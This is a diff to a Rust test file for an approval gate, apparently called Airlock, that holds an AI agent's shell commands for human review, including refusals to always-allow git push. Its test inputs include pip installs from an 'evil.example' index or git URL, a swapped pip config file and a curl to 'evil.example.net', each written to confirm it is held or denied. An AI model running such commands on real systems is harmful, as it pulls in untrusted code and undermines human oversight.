@@ -287,7 +287,7 @@ fn session_scope_allows_the_same_action_again_in_that_session_only() {
 }
 
 #[test]
-fn always_scope_adds_a_narrow_rule_to_the_user_policy() {
+fn always_scope_adds_an_exact_entry_to_the_user_policy() {
     let mut airlock = Airlock::new();
     airlock.start_daemon(60);
     let command = "curl -s https://api.example.com/status";
@@ -298,14 +298,18 @@ fn always_scope_adds_a_narrow_rule_to_the_user_policy() {
     assert_eq!(first.join().unwrap().code, 0);
 
     let rules = std::fs::read_to_string(airlock.user_policy_dir().join("always.toml")).unwrap();
-    assert!(
-        rules.contains(r#"commands = ["curl -s https://api.example.com/status"]"#),
-        "{rules}"
-    );
-    assert!(rules.contains(r#"classes = ["network.fetch"]"#), "{rules}");
-    assert!(rules.contains(r#"decision = "allow""#), "{rules}");
+    for line in [
+        "[[always]]",
+        r#"tool = "Bash""#,
+        r#"classes = ["network.fetch"]"#,
+        r#"workspace = "/home/user/project""#,
+        r#"argv = ["curl", "-s", "https://api.example.com/status"]"#,
+        r#"hosts = ["api.example.com"]"#,
+    ] {
+        assert!(rules.contains(line), "{line} in\n{rules}");
+    }
 
-    // Any session, same command: allowed by the new rule.
+    // Any session, same command: allowed by the new entry.
     let again = airlock.hook(&bash_payload(command, "s2", "t2"));
     assert_eq!(again.code, 0);
     let r = &airlock.receipts()[0];
@@ -326,7 +330,7 @@ fn always_scope_adds_a_narrow_rule_to_the_user_policy() {
     let id = airlock.wait_pending()["id"].as_str().unwrap().to_string();
     airlock.run_ok(&["deny", &id]);
     assert_eq!(other.join().unwrap().code, 2);
-    // Approving `always` twice does not duplicate the rule.
+    // Approving `always` twice does not duplicate the entry.
     let dup = airlock.hook_in_background(&bash_payload(
         "curl -s https://evil.example.net/x",
         "s2",
@@ -336,7 +340,94 @@ fn always_scope_adds_a_narrow_rule_to_the_user_policy() {
     airlock.run_ok(&["approve", &id, "--scope", "always"]);
     assert_eq!(dup.join().unwrap().code, 0);
     let rules = std::fs::read_to_string(airlock.user_policy_dir().join("always.toml")).unwrap();
-    assert_eq!(rules.matches("[[rule]]").count(), 2, "{rules}");
+    assert_eq!(rules.matches("[[always]]").count(), 2, "{rules}");
+}
+
+#[test]
+fn always_for_pip_install_does_not_allow_another_index() {
+    let mut airlock = Airlock::new();
+    airlock.start_daemon(60);
+    let held = airlock.hook_in_background(&bash_payload("pip install requests", "s1", "t1"));
+    let id = airlock.wait_pending()["id"].as_str().unwrap().to_string();
+    airlock.run_ok(&["approve", &id, "--scope", "always"]);
+    assert_eq!(held.join().unwrap().code, 0);
+
+    let same = airlock.hook(&bash_payload("pip install requests", "s2", "t2"));
+    assert_eq!(same.code, 0, "{same:?}");
+    assert_eq!(outcomes(&airlock.receipts()[0]), ["allowed"]);
+
+    // Each of these merely starts like the approved command: each waits for a human again.
+    for (n, wider) in [
+        "pip install requests --index-url https://evil.example/simple",
+        "pip install requests -e git+https://evil.example/pkg.git",
+        "PIP_CONFIG_FILE=/tmp/evil.conf pip install requests",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let waiting = airlock.hook_in_background(&bash_payload(wider, "s2", &format!("w{n}")));
+        let pending = airlock.wait_pending();
+        assert_eq!(pending["input"]["command"], wider);
+        airlock.run_ok(&["deny", pending["id"].as_str().unwrap()]);
+        assert_eq!(waiting.join().unwrap().code, 2, "{wider}");
+    }
+}
+
+#[test]
+fn always_on_a_push_is_refused_and_recorded_while_the_session_scope_works() {
+    let mut airlock = Airlock::new();
+    airlock.start_daemon(60);
+    let command = "git push origin main";
+    let held = airlock.hook_in_background(&bash_payload(command, "s1", "t1"));
+    let pending = airlock.wait_pending();
+    let id = pending["id"].as_str().unwrap().to_string();
+    // The daemon tells the window not to offer it, and why.
+    assert_eq!(pending["scopes"], json!(["once", "session"]));
+    assert!(
+        pending["always_note"]
+            .as_str()
+            .unwrap()
+            .contains("`remote.write`"),
+        "{pending}"
+    );
+    let listed = airlock.run_ok(&["pending"]);
+    assert!(
+        listed.contains("approve with: --scope once|session\n")
+            && listed.contains("always: cannot always-allow a `remote.write` action"),
+        "{listed}"
+    );
+
+    let out = airlock.run(&["approve", &id, "--scope", "always"]);
+    assert_eq!(out.status.code(), Some(1));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("cannot always-allow a `remote.write` action")
+            && err.contains("--scope session"),
+        "{err}"
+    );
+    assert!(!airlock.user_policy_dir().join("always.toml").exists());
+    let refusal = airlock
+        .receipts()
+        .into_iter()
+        .find(|r| r["tool"] == "airlock approve")
+        .expect("the refusal is recorded");
+    assert_eq!(refusal["decision"], "deny");
+    assert_eq!(outcomes(&refusal), ["denied"]);
+    assert!(
+        refusal["reason"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("`{id}` cannot be always allowed")),
+        "{refusal}"
+    );
+    assert_eq!(refusal["input"]["guarded_classes"], json!(["remote.write"]));
+
+    // Still pending: the session scope is the positive control.
+    airlock.run_ok(&["approve", &id, "--scope", "session"]);
+    assert_eq!(held.join().unwrap().code, 0);
+    let again = airlock.hook(&bash_payload(command, "s1", "t2"));
+    assert_eq!(again.code, 0, "{again:?}");
+    assert_eq!(airlock.receipts()[0]["rules"], json!(["grant.session"]));
 }
 
 #[test]
